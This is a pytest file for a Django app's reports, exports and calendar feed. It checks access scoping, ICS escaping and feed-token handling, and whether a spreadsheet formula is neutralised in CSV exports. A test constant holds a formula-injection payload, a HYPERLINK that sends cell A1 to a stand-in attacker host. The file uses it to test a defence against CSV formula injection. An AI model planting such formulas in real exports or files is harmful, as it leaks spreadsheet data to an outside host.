"""Report pages, the calendar and its feed, and the exports: behaviour and scope."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone
from icalendar import Calendar

from approvals.models import Decision, StageReview
from approvals.tests.factories import channel_for, draft, submitted
from audit.models import AuditEvent
from reports.models import CalendarFeed
from reports.services import calendar_feed_create, token_hash
from reports.tests.factories import lead_time_world, make_post

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def body_of(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_a_report_page_draws_a_chart_with_its_numbers_beside_it(client, auditor, department):
    lead_time_world(department)
    client.force_login(auditor)

    response = client.get("/reports/lead-time/?start=2026-03-01&end=2026-03-31")

    html = response.content.decode()
    assert "<svg" in html and 'fill="url(#pattern-0)"' in html and 'fill="url(#pattern-1)"' in html
    assert "<td>7.9</td>" in html and "<td>2.5</td>" in html  # the table beside it
    assert "style=" not in html.split("<main", 1)[1]  # no inline styles in the page body (CSP)
    assert "<script>" not in html


def test_the_report_csv_has_the_table_numbers(client, auditor, department):
    lead_time_world(department)
    client.force_login(auditor)

    response = client.get("/reports/lead-time/export.csv?start=2026-03-01&end=2026-03-31&department=marketing")

    rows = list(csv.reader(io.StringIO(body_of(response))))
    assert rows == [
        ["week", "department", "approved posts", "median hours", "p90 hours"],
        ["2026-03-02", "Marketing", "4", "2.5", "7.9"],
        ["2026-03-09", "Marketing", "2", "5.0", "5.8"],
    ]


def test_a_manager_sees_only_their_departments_figures(client, manager, department):
    world = lead_time_world(department)
    client.force_login(manager)

    everything = body_of(client.get("/reports/lead-time/export.csv?start=2026-03-01&end=2026-03-31"))
    other = body_of(client.get(f"/reports/lead-time/export.csv?start=2026-03-01&department={world['sales'].slug}"))

    assert "Sales" not in everything and "Marketing" in everything
    assert "Sales" not in other  # a department outside their scope is not a valid choice


def test_a_formula_payload_stays_inert_in_every_csv(client, auditor, employee, department):
    # given a channel and a post whose text is a spreadsheet formula
    channel = channel_for(employee, department=department, display_name=PAYLOAD)
    draft(employee, channel, body=PAYLOAD)
    client.force_login(auditor)

    for url in ["/reports/exports/channels.csv", "/reports/exports/posts.csv"]:
        cells = [c for row in csv.reader(io.StringIO(body_of(client.get(url)))) for c in row]
        assert "'" + PAYLOAD in cells, url
        assert PAYLOAD not in cells, url
    # JSON keeps the text as it is: it is data, not a spreadsheet
    lines = [json.loads(line) for line in body_of(client.get("/reports/exports/posts.jsonl")).splitlines()]
    assert lines[0]["body"] == PAYLOAD


def test_review_decisions_export_as_csv_json_and_jsonl_with_the_payload_inert(
    client, auditor, employee, reviewer, department
):
    # given a decision whose comment is a spreadsheet formula
    post = submitted(employee, channel_for(employee, department=department), body="Launch day")
    stage = StageReview.objects.filter(post=post).first()
    Decision.objects.create(stage_review=stage, reviewer=reviewer, outcome="request_changes", comment=PAYLOAD)
    client.force_login(auditor)

    cells = [
        c for row in csv.reader(io.StringIO(body_of(client.get("/reports/exports/review-decisions.csv")))) for c in row
    ]
    array = json.loads(body_of(client.get("/reports/exports/review-decisions.json")))
    lines = body_of(client.get("/reports/exports/review-decisions.jsonl")).splitlines()

    assert "'" + PAYLOAD in cells and PAYLOAD not in cells
    assert len(array) == len(lines) == 1
    assert array[0]["comment"] == json.loads(lines[0])["comment"] == PAYLOAD
    assert (
        array[0]["post"] == post.pk
        and array[0]["reviewer"] == reviewer.email
        and array[0]["outcome"] == "request_changes"
    )


def test_a_json_export_is_one_valid_array_even_when_empty(client, auditor):
    client.force_login(auditor)

    assert json.loads(body_of(client.get("/reports/exports/review-decisions.json"))) == []
    assert isinstance(json.loads(body_of(client.get("/reports/exports/channels.json"))), list)


def test_exports_respect_scope(client, employee, reviewer, department):
    channel = channel_for(employee, department=department)
    draft(employee, channel, body="My private draft")
    client.force_login(reviewer)

    posts = body_of(client.get("/reports/exports/posts.csv"))
    channels = body_of(client.get("/reports/exports/channels.csv"))

    assert "My private draft" not in posts  # a draft is its author's (and contributors') only
    assert body_of(client.get("/reports/exports/review-decisions.csv")).count("\n") == 1  # the header only
    assert "credentials_location" not in channels  # security details: IT and auditors only
    assert client.get("/reports/exports/audit.csv").status_code == 403


def test_the_ics_feed_lists_visible_posts_escaped_and_folded(client, employee, department):
    channel = channel_for(employee, department=department)
    when = timezone.now() + timedelta(days=2)
    long_text = "Launch; day, with a comma\\ and a backslash. " + "x" * 120
    make_post(channel, employee, created=timezone.now(), state="scheduled", scheduled_at=when, body=long_text)
    feed, token = calendar_feed_create(actor=employee)

    response = client.get(f"/reports/calendar/feed/{token}.ics")

    raw = response.content.decode()
    assert response["Content-Type"].startswith("text/calendar")
    assert all(len(line.encode()) <= 75 for line in raw.split("\r\n"))  # RFC 5545 folding
    assert "Launch\\; day\\, with a comma\\\\ and" in raw.replace("\r\n ", "")  # RFC 5545 escaping
    event = Calendar.from_ical(response.content).walk("VEVENT")[0]
    assert str(event["description"]) == long_text
    # only the hash is stored, and the feed was audited
    assert feed.token_hash == token_hash(token) and token not in feed.token_hash
    assert AuditEvent.objects.filter(action="calendar_feed.created").count() == 1


def test_a_revoked_or_replaced_feed_stops_working(client, employee):
    _, old = calendar_feed_create(actor=employee)
    _, new = calendar_feed_create(actor=employee)

    assert client.get(f"/reports/calendar/feed/{old}.ics").status_code == 404
    assert client.get(f"/reports/calendar/feed/{new}.ics").status_code == 200

    client.force_login(employee)
    client.post("/reports/calendar/feed/revoke/")

    assert client.get(f"/reports/calendar/feed/{new}.ics").status_code == 404
    assert CalendarFeed.objects.filter(user=employee, revoked_at__isnull=True).count() == 0
    assert AuditEvent.objects.filter(action="calendar_feed.revoked").count() == 1


def test_the_calendar_groups_posts_by_week(client, employee, department):
    channel = channel_for(employee, department=department)
    for day in ["2026-03-03", "2026-03-04", "2026-03-11"]:
        at = timezone.make_aware(timezone.datetime.fromisoformat(f"{day}T10:00"))
        make_post(channel, employee, created=at, state="published", published_at=at, body=f"Out on {day}")
    client.force_login(employee)

    html = client.get("/reports/calendar/?month=2026-03").content.decode()

    assert html.count('class="card cal-week"') == 2
    assert "Week of 2 March 2026" in html and "Week of 9 March 2026" in html
    week = client.get("/reports/calendar/?week=2026-03-09").content.decode()
    assert "Out on 2026-03-11" in week and "Out on 2026-03-03" not in week


@pytest.mark.parametrize("path", ["/", "/posts/new/", "/posts/queue/"])
def test_the_calendar_is_one_click_away_from_the_menu_composing_and_reviewing(client, reviewer, department, path):
    channel_for(reviewer, department=department)
    client.force_login(reviewer)

    response = client.get(path)

    assert response.status_code == 200, response.status_code
    links = response.content.decode().count('href="/reports/calendar/"')
    assert links == (1 if path == "/" else 2)  # the menu, plus the page's own link
